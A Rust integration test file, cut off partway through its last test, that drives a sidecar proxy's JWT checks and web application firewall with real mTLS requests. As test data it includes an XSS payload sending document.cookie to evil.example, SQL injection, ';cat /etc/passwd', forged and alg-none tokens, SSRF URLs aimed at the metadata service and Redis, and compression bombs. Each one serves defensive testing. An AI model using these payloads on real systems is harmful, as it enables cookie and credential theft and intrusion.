//! JWT authentication and the WAF through a running sidecar: real mTLS callers, the exact bytes
//! on the wire, and what the app behind the sidecar saw (nothing, or exactly what was allowed).

#[path = "support/jwt.rs"]
mod jwt;
mod support;

use jwt::{jwks, Signer};
use serde_json::{json, Value};
use support::*;

const ISS: &str = "https://auth.example.com";

fn now() -> u64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()
}

fn claims(sub: &str) -> Value {
    json!({"iss": ISS, "sub": sub, "aud": "orders", "exp": now() + 600, "groups": ["staff"]})
}

/// A refusal written by the sidecar: its status, SPEC section 5's JSON body and `x-request-id`;
/// the echo app's JSON (which names a method and a path) is not there.
fn assert_refused(answer: &Answer, status: u16, error: &str, what: &str) {
    assert_eq!(answer.status, status, "{what}: {answer:?}");
    let body: Value = serde_json::from_str(&answer.body).unwrap_or_else(|e| panic!("{what}: {e}: {answer:?}"));
    assert_eq!(body["error"], error, "{what}: {body}");
    assert!(body.get("path").is_none() && body.get("method").is_none(), "{what}: the app answered: {body}");
    let id = answer.header("x-request-id").unwrap_or_else(|| panic!("{what}: no x-request-id"));
    assert_eq!(body["request_id"], id, "{what}");
    assert_eq!(answer.header("content-type"), Some("application/json"), "{what}");
}

/// The value of one series in a Prometheus text exposition (0 when absent).
fn sample(metrics: &str, series: &str) -> f64 {
    metrics.lines().find_map(|l| l.strip_prefix(series)?.strip_prefix(' ')?.trim().parse().ok()).unwrap_or(0.0)
}

async fn jwt_sidecar(signer: &Signer, require: bool) -> PolicedSidecar {
    let keys = tempfile::NamedTempFile::new().unwrap().into_temp_path().keep().unwrap();
    std::fs::write(&keys, jwks(&[signer])).unwrap();
    sidecar_with_jwks_file(&keys, require).await
}

/// A sidecar whose policy verifies tokens with the JWKS in the file `keys`.
async fn sidecar_with_jwks_file(keys: &std::path::Path, require: bool) -> PolicedSidecar {
    let spec = format!(
        r#"  authentication:
    requireJwt: {require}
    jwt:
      - issuer: {ISS}
        audiences: [orders]
        jwks: {{file: "{}"}}
        forwardClaims: [{{claim: sub, header: x-user}}]
  authorization:
    default: ALLOW
    rules:
      - {{name: no-guests, action: DENY, to: {{paths: ["/staff*"]}}, when: [{{key: "request.auth.claims[groups]", values: [guest]}}]}}
"#,
        keys.display()
    );
    PolicedSidecar::start(&policy("api", &spec)).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tokens_that_do_not_verify_never_reach_the_app() {
    let signer = Signer::ec("ES256", "k1");
    let side = jwt_sidecar(&signer, true).await;
    let stranger = Signer::ec("ES256", "k1"); // same kid, another key: a forgery
    let expired = signer.token(&json!({"iss": ISS, "sub": "a", "aud": "orders", "exp": now() - 3600}));
    let cases: [(&str, String, &str); 5] = [
        ("a forged signature", stranger.token(&claims("alice")), "invalid_token"),
        ("an expired token", expired, "invalid_token"),
        ("alg none", signer.token_with_header(&json!({"alg": "none"}), &claims("alice")), "invalid_token"),
        ("garbage", "not.a.jwt".into(), "invalid_token"),
        (
            "another audience",
            signer.token(&json!({"iss": ISS, "sub": "a", "aud": "billing", "exp": now() + 60})),
            "invalid_token",
        ),
    ];
    for (what, token, error) in &cases {
        let answer = side.send("frontend", "GET", "/orders", &[("authorization", &format!("Bearer {token}"))]).await;
        assert_refused(&answer, 401, "unauthenticated", what);
        let challenge = answer.header("www-authenticate").unwrap_or_else(|| panic!("{what}: no challenge"));
        assert!(challenge.starts_with("Bearer realm=\"palisade\""), "{what}: {challenge}");
        assert!(challenge.contains(&format!("error=\"{error}\"")), "{what}: {challenge}");
    }
    // No token at all while the policy requires one: a challenge without an error code.
    let answer = side.send("frontend", "GET", "/orders", &[]).await;
    assert_refused(&answer, 401, "unauthenticated", "no token");
    assert_eq!(answer.header("www-authenticate"), Some("Bearer realm=\"palisade\""));

    let metrics = side.metrics().await;
    assert!(sample(&metrics, r#"palisade_authn_failures_total{reason="missing"}"#) >= 1.0, "{metrics}");
    let failures: f64 = metrics
        .lines()
        .filter(|l| l.starts_with("palisade_authn_failures_total{"))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum();
    assert_eq!(failures, 6.0, "{metrics}");
    // None of the refused tokens was ever taken from the cache of verified ones.
    assert_eq!(sample(&metrics, r#"palisade_authn_cache_lookups_total{result="hit"}"#), 0.0, "{metrics}");
    assert_eq!(sample(&metrics, r#"palisade_authn_cache_lookups_total{result="miss"}"#), 5.0, "{metrics}");
    let unauthenticated = side
        .events_where("an event for each 401", 6, |e| {
            e["message"].as_str().is_some_and(|m| m.starts_with("unauthenticated GET /orders"))
        })
        .await;
    assert_eq!(unauthenticated.len(), 6, "{unauthenticated:?}");
    // The operator is told exactly what failed (the caller only that the token has expired).
    let expired = unauthenticated.iter().find(|e| e["status_detail"] == "expired").expect("the expired token's event");
    assert!(expired["firewall_rule"]["desc"].as_str().is_some_and(|d| d.contains("is before now")), "{expired}");
    // The event names why, never the token.
    for e in &unauthenticated {
        let text = e.to_string();
        assert!(!cases.iter().any(|(_, token, _)| token.len() > 20 && text.contains(token.as_str())), "{text}");
    }
    side.shutdown();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_verified_token_reaches_the_app_as_claims_and_not_as_a_token() {
    let signer = Signer::ec("ES256", "k1");
    let side = jwt_sidecar(&signer, false).await;
    let alice = signer.token(&claims("alice"));
    let answer = side
        .send("frontend", "GET", "/orders/1", &[("authorization", &format!("Bearer {alice}")), ("x-user", "mallory")])
        .await;
    assert_eq!(answer.status, 200, "{answer:?}");
    let seen = answer.seen();
    assert_eq!(seen.headers.get("x-user").map(Vec::as_slice), Some(&["alice".to_string()][..]), "{seen:?}");
    assert_eq!(seen.header("authorization"), None, "the token is removed by default");
    // alice's token again, at once: found among the verified tokens, with the same claims.
    let again = side.send("frontend", "GET", "/orders/1", &[("authorization", &format!("Bearer {alice}"))]).await;
    assert_eq!(again.seen().headers.get("x-user").map(Vec::as_slice), Some(&["alice".to_string()][..]));
    let metrics = side.metrics().await;
    assert_eq!(sample(&metrics, r#"palisade_authn_cache_lookups_total{result="hit"}"#), 1.0, "{metrics}");
    assert_eq!(sample(&metrics, r#"palisade_authn_cache_lookups_total{result="miss"}"#), 1.0, "{metrics}");

    // Without a token (not required here) the caller's own x-user still never reaches the app.
    let answer = side.send("frontend", "GET", "/orders/1", &[("x-user", "mallory")]).await;
    assert_eq!(answer.status, 200);
    assert_eq!(answer.seen().header("x-user"), None);

    // A token after a tab is a token (parsers that split on whitespace read it): verified, and a
    // forged one refused although no token is required; `Bearer:` is no scheme an app should
    // be handed unverified.
    let answer = side.send("frontend", "GET", "/orders/1", &[("authorization", &format!("Bearer\t{alice}"))]).await;
    assert_eq!(answer.seen().headers.get("x-user").map(Vec::as_slice), Some(&["alice".to_string()][..]));
    let forged = Signer::ec("ES256", "k1").token(&claims("admin"));
    for value in [format!("Bearer\t{forged}"), format!("Bearer:{forged}"), format!("bearer  {forged}")] {
        let answer = side.send("frontend", "GET", "/orders/1", &[("authorization", &value)]).await;
        assert_refused(&answer, 401, "unauthenticated", &value[..8]);
    }

    // A claim condition: tokens whose groups hold "guest" are kept out of /staff.
    let outsider =
        signer.token(&json!({"iss": ISS, "sub": "eve", "aud": "orders", "exp": now() + 600, "groups": ["guest"]}));
    let answer = side.send("frontend", "GET", "/staff/1", &[("authorization", &format!("Bearer {outsider}"))]).await;
    assert_refused(&answer, 403, "forbidden", "a token without the group");
    // The denial names the end user beside the calling workload, as the access log does.
    let denied =
        side.events_where("eve's denial", 1, |e| e["message"].as_str().is_some_and(|m| m.contains("/staff/1"))).await;
    assert_eq!(denied[0]["unmapped"]["request_principal"], format!("{ISS}/eve").as_str(), "{}", denied[0]);
    assert_eq!(denied[0]["actor"]["user"]["uid"], id("shop", "frontend").as_str(), "{}", denied[0]);
    let logged = eventually(async || {
        read_jsonl(&side.access_log)
            .iter()
            .any(|l| l["path"] == "/staff/1" && l["request_principal"] == format!("{ISS}/eve").as_str())
    })
    .await;
    assert!(logged, "{:?}", read_jsonl(&side.access_log));
    let answer = side.send("frontend", "GET", "/staff/1", &[("authorization", &format!("Bearer {alice}"))]).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    // Seven tokens, seven lookups (a request without one, or refused as `Bearer:`, looks
    // nothing up). Whether alice's were hits depends on no other token having taken its cache
    // slot (1 in 128 each).
    let metrics = side.metrics().await;
    let lookups =
        ["hit", "miss"].map(|r| sample(&metrics, &format!(r#"palisade_authn_cache_lookups_total{{result="{r}"}}"#)));
    assert_eq!(lookups.iter().sum::<f64>(), 7.0, "{metrics}");
    assert!(lookups[1] >= 4.0, "alice's first, the two forgeries and eve's were verified in full: {metrics}");

    // RFC 6750's query parameter, which Envoy and Istio read by default: a forgery there is
    // refused as in the header (it had reached the app unverified), a good token verified.
    // PHP and Rack hand the app `access_token[]` as an array under the name (outside tester q1):
    // a forgery there beside a good token in the header had reached the app unverified.
    let bearer = format!("Bearer {alice}");
    for spelling in
        ["access_token", "x=1;access_token", "access.token", "ACCESS_TOKEN", "access_token[]", "access_token%5B0%5D"]
    {
        let answer = side.send("frontend", "GET", &format!("/orders/1?{spelling}={forged}"), &[]).await;
        assert_refused(&answer, 401, "unauthenticated", spelling);
        let beside = format!("/orders/1?{spelling}={forged}");
        let answer = side.send("frontend", "GET", &beside, &[("authorization", &bearer)]).await;
        assert_refused(&answer, 401, "unauthenticated", &format!("{spelling} beside a good token"));
    }
    let answer =
        side.send("frontend", "GET", &format!("/orders/1?access_token={alice}"), &[("x-user", "mallory")]).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    assert_eq!(answer.seen().headers.get("x-user").map(Vec::as_slice), Some(&["alice".to_string()][..]));
    side.shutdown();
}

/// Object-level authorization: a rule's path that names the token's `sub` lets each caller reach
/// its own objects only, through a real sidecar, whatever the spelling of another's path.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_caller_reaches_only_the_objects_its_token_names() {
    let signer = Signer::ec("ES256", "k1");
    let keys = tempfile::NamedTempFile::new().unwrap().into_temp_path().keep().unwrap();
    std::fs::write(&keys, jwks(&[&signer])).unwrap();
    let spec = format!(
        r#"  authentication:
    jwt:
      - issuer: {ISS}
        audiences: [orders]
        jwks: {{file: "{}"}}
  authorization:
    default: DENY
    rules:
      - {{name: own-account, action: ALLOW, to: {{paths: ["/users/{{request.auth.claims[sub]}}/{{**}}"]}}}}
"#,
        keys.display()
    );
    let side = PolicedSidecar::start(&policy("api", &spec)).await;
    let bearer = |sub: &str| format!("Bearer {}", signer.token(&claims(sub)));
    let (alice, mallory) = (bearer("alice@example.com"), bearer("mallory"));
    for path in ["/users/alice@example.com/orders/7", "/users/alice%40example.com/orders/7"] {
        let answer = side.send("frontend", "GET", path, &[("authorization", &alice)]).await;
        assert_eq!(answer.status, 200, "{path}: {answer:?}");
        assert_eq!(answer.seen().path, path, "the app gets the path as sent");
    }
    for path in [
        "/users/alice@example.com/orders/7",
        "/users/mallory/../alice@example.com/orders/7",
        "/users/mallory/%2e%2e/alice@example.com/orders/7",
        "//users/alice@example.com/orders/7",
    ] {
        let answer = side.send("frontend", "GET", path, &[("authorization", &mallory)]).await;
        assert_refused(&answer, 403, "forbidden", path);
    }
    let answer = side.send("frontend", "GET", "/users/mallory", &[("authorization", &mallory)]).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    let answer = side.send("frontend", "GET", "/users/alice@example.com/orders/7", &[]).await;
    assert_refused(&answer, 403, "forbidden", "no token");
    side.shutdown();
}

/// A POST over HTTP/2 of no declared length (the body sent in small pieces, as a client
/// streaming it would), from `caller`'s certificate: the status and the answer's body.
async fn h2_post(side: &PolicedSidecar, caller: &palisade::identity::WorkloadFiles, body: &str) -> (u16, String) {
    h2_post_as(side, caller, &[("content-type", "application/json")], body.as_bytes()).await
}

/// [`h2_post`] with these headers and body.
async fn h2_post_as(
    side: &PolicedSidecar,
    caller: &palisade::identity::WorkloadFiles,
    headers: &[(&str, &str)],
    body: &[u8],
) -> (u16, String) {
    h2_post_in(side, caller, headers, body, Frames::Pieces).await
}

/// How an HTTP/2 request body is sent.
#[derive(Clone, Copy, PartialEq)]
enum Frames {
    /// In pieces of 7 bytes, then an empty frame that ends the stream.
    Pieces,
    /// In one frame that ends the stream (curl's `--data-binary`).
    One,
}

async fn h2_post_in(
    side: &PolicedSidecar,
    caller: &palisade::identity::WorkloadFiles,
    headers: &[(&str, &str)],
    body: &[u8],
    frames: Frames,
) -> (u16, String) {
    let mut tls = client_tls(Some(caller));
    tls.alpn_protocols = vec![b"h2".to_vec()];
    let tcp = tokio::net::TcpStream::connect(side.sidecar.inbound).await.unwrap();
    let server = rustls::pki_types::ServerName::try_from("orders.shop").unwrap();
    let tls = tokio_rustls::TlsConnector::from(std::sync::Arc::new(tls)).connect(server, tcp).await.unwrap();
    let (client, connection) = h2::client::handshake(tls).await.unwrap();
    tokio::spawn(connection);
    let mut client = client.ready().await.unwrap();
    let mut request = http::Request::post("https://orders.shop/orders");
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let (response, mut send) = client.send_request(request.body(()).unwrap(), false).unwrap();
    if frames == Frames::One {
        send.send_data(bytes::Bytes::copy_from_slice(body), true).unwrap();
    } else {
        // The sidecar may answer and reset the stream before the body is all sent (413 as the
        // body crosses the limit): its answer is what counts, not the rest of the upload.
        for piece in body.chunks(7) {
            if send.send_data(bytes::Bytes::copy_from_slice(piece), false).is_err() {
                break;
            }
        }
        let _ = send.send_data(bytes::Bytes::new(), true);
    }
    let response = tokio::time::timeout(std::time::Duration::from_secs(10), response).await.unwrap().unwrap();
    let status = response.status().as_u16();
    let mut answer = response.into_body();
    let mut text = Vec::new();
    while let Some(chunk) = answer.data().await {
        let chunk = chunk.unwrap();
        let _ = answer.flow_control().release_capacity(chunk.len());
        text.extend_from_slice(&chunk);
    }
    (status, String::from_utf8_lossy(&text).to_string())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_bodies_of_no_declared_length_are_inspected_whole_and_reach_the_app_with_their_length() {
    // An HTTP/1.1 app, as every app is to which a peer sidecar forwards an HTTP/1.1 caller's
    // chunked body (it crosses the hop between sidecars as HTTP/2 of no declared length).
    let side = PolicedSidecar::start_with(&waf_policy("{mode: BLOCK, inspectBodyBytes: 4096}"), |c| {
        c.inbound.app_protocol = palisade::config::AppProtocol::Http1
    })
    .await;
    let caller = side.pki.workload("frontend-h2", &id("shop", "frontend"));
    let (status, body) = h2_post(&side, &caller, XSS_JSON).await;
    assert_eq!(status, 403, "{body}");
    assert!(body.contains(r#""error":"forbidden""#), "{body}");
    let big = format!(r#"{{"pad":"{}"}}"#, "a".repeat(5000));
    let (status, body) = h2_post(&side, &caller, &big).await;
    assert_eq!(status, 413, "over inspectBodyBytes: {body}");
    let benign = r#"{"name":"O'Brien","note":"Select the blue one; deliver after 5 <pm> & ring twice","qty":2}"#;
    let (status, body) = h2_post(&side, &caller, benign).await;
    assert_eq!(status, 200, "{body}");
    let seen: Seen = serde_json::from_str(&body).unwrap();
    assert_eq!(seen.body_bytes, benign.len(), "{seen:?}");
    assert_eq!(seen.header("content-length"), Some(benign.len().to_string().as_str()), "{seen:?}");
    side.shutdown();
}

/// An HTTP/2 value with a leading or trailing blank (RFC 9113 8.2.1 calls it malformed; much
/// traffic carries it) is trimmed before the policy reads it: as HTTP/1.1 the app's parser drops
/// the blank, so `" 1"` would dodge a DENY on `1` and arrive as `1`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_values_padded_with_blanks_are_judged_and_forwarded_trimmed() {
    let rules = "  authorization:\n    default: ALLOW\n    rules:\n      - {name: no-debug, action: DENY, when: [{key: \"request.headers[x-debug]\", values: [\"1\"]}]}\n";
    let side = PolicedSidecar::start_with(&policy("api", rules), |c| {
        c.inbound.app_protocol = palisade::config::AppProtocol::Http1
    })
    .await;
    let caller = side.pki.workload("frontend-h2", &id("shop", "frontend"));
    for padded in [" 1", "1 ", "\t1", "1\t", " 1 "] {
        let (status, body) = h2_post_as(&side, &caller, &[("x-debug", padded)], b"").await;
        assert_eq!(status, 403, "{padded:?}: {body}");
    }
    for (sent, seen) in [(" 0", "0"), ("0 and 1\t", "0 and 1")] {
        let (status, body) = h2_post_as(&side, &caller, &[("x-debug", sent)], b"").await;
        assert_eq!(status, 200, "{sent:?}: {body}");
        let app: Seen = serde_json::from_str(&body).unwrap();
        assert_eq!(app.header("x-debug"), Some(seen), "{sent:?}: {app:?}");
    }
    side.shutdown();
}

fn waf_policy(waf: &str) -> String {
    policy("api", &format!("  authorization: {{default: ALLOW}}\n  inputValidation:\n    waf: {waf}\n"))
}

fn post(path: &str, content_type: &str, body: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nhost: orders.shop\r\nconnection: close\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// `post` of a body in a content coding (`gzip`, `br` or `zstd`).
fn post_encoded(path: &str, content_type: &str, coding: &str, body: &[u8]) -> Vec<u8> {
    let encoded = encode(coding, body);
    let mut request = format!(
        "POST {path} HTTP/1.1\r\nhost: orders.shop\r\nconnection: close\r\ncontent-type: {content_type}\r\ncontent-encoding: {coding}\r\ncontent-length: {}\r\n\r\n",
        encoded.len()
    )
    .into_bytes();
    request.extend_from_slice(&encoded);
    request
}

fn encode(coding: &str, body: &[u8]) -> Vec<u8> {
    use std::io::Write;
    match coding {
        "gzip" => {
            let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            encoder.write_all(body).unwrap();
            encoder.finish().unwrap()
        }
        "br" => {
            let mut out = Vec::new();
            brotli::BrotliCompress(&mut &body[..], &mut out, &Default::default()).unwrap();
            out
        }
        "zstd" => zstd::stream::encode_all(body, 3).unwrap(),
        other => panic!("no encoder for {other}"),
    }
}

fn chunked(path: &str, content_type: &str, body: &str) -> String {
    let mut request = format!(
        "POST {path} HTTP/1.1\r\nhost: orders.shop\r\nconnection: close\r\ncontent-type: {content_type}\r\ntransfer-encoding: chunked\r\n\r\n"
    );
    for piece in body.as_bytes().chunks(7) {
        request.push_str(&format!("{:x}\r\n{}\r\n", piece.len(), std::str::from_utf8(piece).unwrap()));
    }
    request.push_str("0\r\n\r\n");
    request
}

const SQLI_QUERY: &str = "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
const XSS_JSON: &str = r#"{"order":{"items":[{"note":"<script>fetch('//evil.example/'+document.cookie)</script>"}]}}"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_waf_blocks_attacks_in_the_query_and_in_bodies_and_lets_users_through() {
    let side = PolicedSidecar::start(&waf_policy(
        "{mode: BLOCK, inspectBodyBytes: 4096, exclusions: [{paths: [\"/reports*\"], parameters: [sql], detectors: [sqli]}]}",
    ))
    .await;
    let answer = side.send("frontend", "GET", SQLI_QUERY, &[]).await;
    assert_refused(&answer, 403, "forbidden", "SQL injection in the query");
    assert!(!answer.body.contains("sql"), "the 403 never names the detector: {}", answer.body);

    let answer = side.exchange("frontend", &post("/orders", "application/json", XSS_JSON)).await;
    assert_refused(&answer, 403, "forbidden", "XSS deep in a JSON body");
    let answer = side.exchange("frontend", &chunked("/orders", "application/json", XSS_JSON)).await;
    assert_refused(&answer, 403, "forbidden", "the same body, chunked");
    let form = "name=bob&comment=%3Bcat%20%2Fetc%2Fpasswd";
    let answer = side.exchange("frontend", &post("/orders", "application/x-www-form-urlencoded", form)).await;
    assert_refused(&answer, 403, "forbidden", "command injection in a form");

    // What users send gets through, body and all.
    let benign = r#"{"name":"O'Brien","note":"Select the blue one; deliver after 5 <pm> & ring twice","qty":2}"#;
    let answer = side.exchange("frontend", &post("/orders", "application/json", benign)).await;
    assert_eq!(answer.status, 200, "{answer:?} {:?}", side.events().last());
    assert_eq!(answer.seen().body_bytes, benign.len());
    let answer = side.exchange("frontend", &chunked("/orders", "application/json", benign)).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    assert_eq!(answer.seen().body_bytes, benign.len());
    let answer =
        side.send("frontend", "GET", "/search?q=O%27Reilly%20%22select%20all%22%20drop-down%20menu&page=2", &[]).await;
    assert_eq!(answer.status, 200, "{answer:?}");

    // An exclusion lifts one detector from one parameter on its paths, and nothing else.
    let answer = side.send("frontend", "GET", "/reports/1?sql=1%27%20UNION%20SELECT%20a%20FROM%20b--", &[]).await;
    assert_eq!(answer.status, 200, "excluded parameter: {answer:?}");
    let answer = side.send("frontend", "GET", "/reports/1?other=1%27%20UNION%20SELECT%20a%20FROM%20b--", &[]).await;
    assert_refused(&answer, 403, "forbidden", "another parameter on the excluded path");

    // A part with an empty file name is a form field to Go's parser: its content is read. A
    // real file's content is the app's data and goes through unread.
    let part = |filename: &str, content: &str| {
        format!("--XyZ\r\ncontent-disposition: form-data; name=\"q\"; {filename}\r\n\r\n{content}\r\n--XyZ--\r\n")
    };
    let multipart = "multipart/form-data; boundary=XyZ";
    let answer = side.exchange("frontend", &post("/orders", multipart, &part("filename=\"\"", "1' OR 1=1--"))).await;
    assert_refused(&answer, 403, "forbidden", "SQL injection in a multipart field with an empty file name");
    let file = part("filename=\"notes.txt\"", "1' OR 1=1-- as a note");
    let answer = side.exchange("frontend", &post("/orders", multipart, &file)).await;
    assert_eq!(answer.status, 200, "a file's content is not read: {answer:?}");
    assert_eq!(answer.seen().body_bytes, file.len());

    // A body over the inspection limit is refused (the default), not passed unread.
    let big = format!(r#"{{"pad":"{}"}}"#, "a".repeat(5000));
    let answer = side.exchange("frontend", &post("/orders", "application/json", &big)).await;
    assert_refused(&answer, 413, "payload_too_large", "a declared body over inspectBodyBytes");
    let answer = side.exchange("frontend", &chunked("/orders", "application/json", &big)).await;
    assert_refused(&answer, 413, "payload_too_large", "a chunked body that grows over inspectBodyBytes");

    let metrics = side.metrics().await;
    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="blocked",detector="sqli"}"#), 3.0, "{metrics}");
    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="blocked",detector="xss"}"#), 2.0, "{metrics}");
    // `;cat /etc/passwd` is both command injection and traversal: either detector may report it.
    let shell = ["command_injection", "path_traversal"]
        .map(|d| sample(&metrics, &format!(r#"palisade_waf_findings_total{{action="blocked",detector="{d}"}}"#)));
    assert_eq!(shell.iter().sum::<f64>(), 1.0, "{metrics}");
    let blocked = side
        .events_where("an event for each blocked XSS body", 2, |e| {
            e["message"].as_str().is_some_and(|m| m.starts_with("blocked POST /orders: xss in json_value"))
        })
        .await;
    assert_eq!(blocked.len(), 2, "{blocked:?}");
    let text = blocked[0].to_string();
    assert!(text.contains("script"), "the event carries the matched fragment: {text}");
    assert!(!text.contains("evil.example"), "never the whole body: {text}");
    side.shutdown();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn urls_that_point_the_app_at_metadata_or_the_loopback_are_refused_and_ordinary_urls_pass() {
    let side = PolicedSidecar::start(&waf_policy(
        "{mode: BLOCK, exclusions: [{paths: [\"/hooks\"], parameters: [callback], detectors: [ssrf]}]}",
    ))
    .await;
    // Refused first: a fetcher pointed at the metadata service, the loopback in disguise, a
    // Redis command by gopher, remote inclusion from an address.
    for (target, what) in [
        ("/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F", "AWS's metadata service"),
        ("/fetch?url=http://0x7f.1:6379/", "the loopback in hexadecimal, two parts"),
        (
            "/fetch?url=http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/",
            "the loopback in circled digits",
        ),
        ("/fetch?url=gopher://cache:6379/_FLUSHALL", "gopher to Redis"),
        ("/page.php?src=http://66.240.183.75/shell.txt%3F", "remote inclusion from an address"),
        ("/fetch?url=host.docker.internal/", "the container host without a scheme"),
        ("/oauth/authorize?redirect_uri=http://169.254.169.254/", "a redirect URI at the metadata service"),
        ("/hooks?other=http://127.0.0.1:8080/hook", "the loopback under a parameter the exclusion does not name"),
    ] {
        let answer = side.send("frontend", "GET", target, &[]).await;
        assert_refused(&answer, 403, "forbidden", what);
    }
    let webhook = r#"{"name":"deploys","target":{"url":"http://[::ffff:127.0.0.1]:2375/containers/json"}}"#;
    let answer = side.exchange("frontend", &post("/webhooks", "application/json", webhook)).await;
    assert_refused(&answer, 403, "forbidden", "the loopback inside IPv6, deep in a JSON body");

    // What callers send every day gets through.
    for target in [
        "/fetch?url=https://api.example.com/v1/orders",
        "/oauth/authorize?client_id=cli&redirect_uri=http://127.0.0.1:53682/",
        "/hooks?callback=http://127.0.0.1:8080/hook",
        // A private address is what services in a mesh hand each other: paranoia 2.
        "/register?health=http://10.0.3.7:8080/health",
        "/firewall?cidr=10.0.0.0/8&host=localhost",
    ] {
        let answer = side.send("frontend", "GET", target, &[]).await;
        assert_eq!(answer.status, 200, "{target}: {answer:?}");
    }
    let metrics = side.metrics().await;
    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="blocked",detector="ssrf"}"#), 9.0, "{metrics}");
    side.events_where("the metadata request's event names the detector and the parameter", 1, |e| {
        e["message"].as_str().is_some_and(|m| m.starts_with("blocked GET /fetch: ssrf in query_value url"))
    })
    .await;
    side.shutdown();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_under_another_type_or_compressed_is_inspected_as_the_app_would_read_it() {
    // Apps that parse JSON whatever the type (PHP's json_decode of php://input, Go's
    // json.Decoder) or inflate gzip bodies (Express's body-parser) read what these carry.
    let side = PolicedSidecar::start_with(&waf_policy("{mode: BLOCK, inspectBodyBytes: 4096}"), |c| {
        c.inbound.app_protocol = palisade::config::AppProtocol::Http1
    })
    .await;
    let caller = side.pki.workload("frontend-h2", &id("shop", "frontend"));
    let said_gzip = post("/orders", "text/plain", XSS_JSON).replace("\r\n\r\n", "\r\ncontent-encoding: gzip\r\n\r\n");
    let two_codings = post_encoded("/orders", "text/plain", "gzip", XSS_JSON.as_bytes());
    let two_codings =
        [b"POST /orders HTTP/1.1\r\ncontent-encoding: identity\r\n".to_vec(), two_codings[23..].to_vec()].concat();
    let attacks: [(&str, Vec<u8>); 10] = [
        ("plain JSON said to be gzip", said_gzip.into_bytes()),
        ("gzip JSON behind a second Content-Encoding: identity", two_codings),
        ("JSON as text/plain", post("/orders", "text/plain", XSS_JSON).into_bytes()),
        ("JSON as text/plain, chunked", chunked("/orders", "text/plain;charset=utf-8", XSS_JSON).into_bytes()),
        (
            "JSON of a made-up type after blanks",
            post("/orders", "application/x-anything", &format!("\r\n  {XSS_JSON}")).into_bytes(),
        ),
        ("gzip JSON", post_encoded("/orders", "application/json", "gzip", XSS_JSON.as_bytes())),
        ("gzip JSON as text/plain", post_encoded("/orders", "text/plain", "gzip", XSS_JSON.as_bytes())),
        (
            "a gzip form",
            post_encoded("/orders", "application/x-www-form-urlencoded", "gzip", b"a=1&c=%3Bcat%20%2Fetc%2Fpasswd"),
        ),
        // ASP.NET's request decompression and Node's zlib undo these too.
        ("brotli JSON", post_encoded("/orders", "application/json", "br", XSS_JSON.as_bytes())),
        (
            "a zstd form",
            post_encoded("/orders", "application/x-www-form-urlencoded", "zstd", b"a=1&c=%3Bcat%20%2Fetc%2Fpasswd"),
        ),
    ];
    for (what, request) in &attacks {
        let answer = side.exchange("frontend", request).await;
        assert_refused(&answer, 403, "forbidden", what);
    }
    // The same over HTTP/2 from a peer sidecar, streamed in small pieces of no declared length.
    let text = [("content-type", "text/plain")];
    let (status, body) = h2_post_as(&side, &caller, &text, XSS_JSON.as_bytes()).await;
    assert_eq!(status, 403, "JSON as text/plain over HTTP/2: {body}");
    let gzipped = [("content-type", "text/plain"), ("content-encoding", "gzip")];
    let (status, body) = h2_post_as(&side, &caller, &gzipped, &encode("gzip", XSS_JSON.as_bytes())).await;
    assert_eq!(status, 403, "gzip JSON as text/plain over HTTP/2: {body}");
    // JSON past the limit behind another type is refused as JSON is (inspectBodyBytes 4096),
    // and a small body that inflates past it too: what is not read cannot pass as read.
    let padded = format!(r#"{{"pad":"{}","x":"<script>alert(1)</script>"}}"#, "a".repeat(5000));
    let answer = side.exchange("frontend", post("/orders", "text/plain", &padded)).await;
    assert_refused(&answer, 413, "payload_too_large", "padded JSON as text/plain");
    let (status, body) = h2_post_as(&side, &caller, &text, padded.as_bytes()).await;
    assert_eq!(status, 413, "padded JSON as text/plain over HTTP/2: {body}");
    let bomb = format!(r#"{{"pad":"{}"}}"#, " ".repeat(1 << 20));
    for coding in ["gzip", "br", "zstd"] {
        assert!(encode(coding, bomb.as_bytes()).len() < 4096, "{coding}");
        let answer =
            side.exchange("frontend", post_encoded("/orders", "application/json", coding, bomb.as_bytes())).await;
        assert_refused(
            &answer,
            413,
            "payload_too_large",
            &format!("a small {coding} body that inflates past the limit"),
        );
    }

    // What is not JSON streams through whole at paranoia 1, whatever it holds and however long.
    let prose = "He said ' or 1=1 -- and <b>left</b>. ".repeat(3000);
    let answer = side.exchange("frontend", post("/notes", "text/plain", &prose)).await;
    assert_eq!((answer.status, answer.seen().body_bytes), (200, prose.len()), "{answer:?}");
    let (status, body) = h2_post_as(&side, &caller, &text, prose.as_bytes()).await;
    let seen: Seen = serde_json::from_str(&body).unwrap_or_else(|_| panic!("{status} {body}"));
    assert_eq!((status, seen.body_bytes), (200, prose.len()), "prose over HTTP/2");
    // Sent whole in the frame that ends the stream: read to the end while its first bytes were
    // looked at, it still ends at the app (it once waited there for bodyTimeout, then 408).
    for body in [&b"hello"[..], prose.as_bytes()] {
        let (status, answer) = h2_post_in(&side, &caller, &text, body, Frames::One).await;
        let seen: Seen = serde_json::from_str(&answer).unwrap_or_else(|_| panic!("{status} {answer}"));
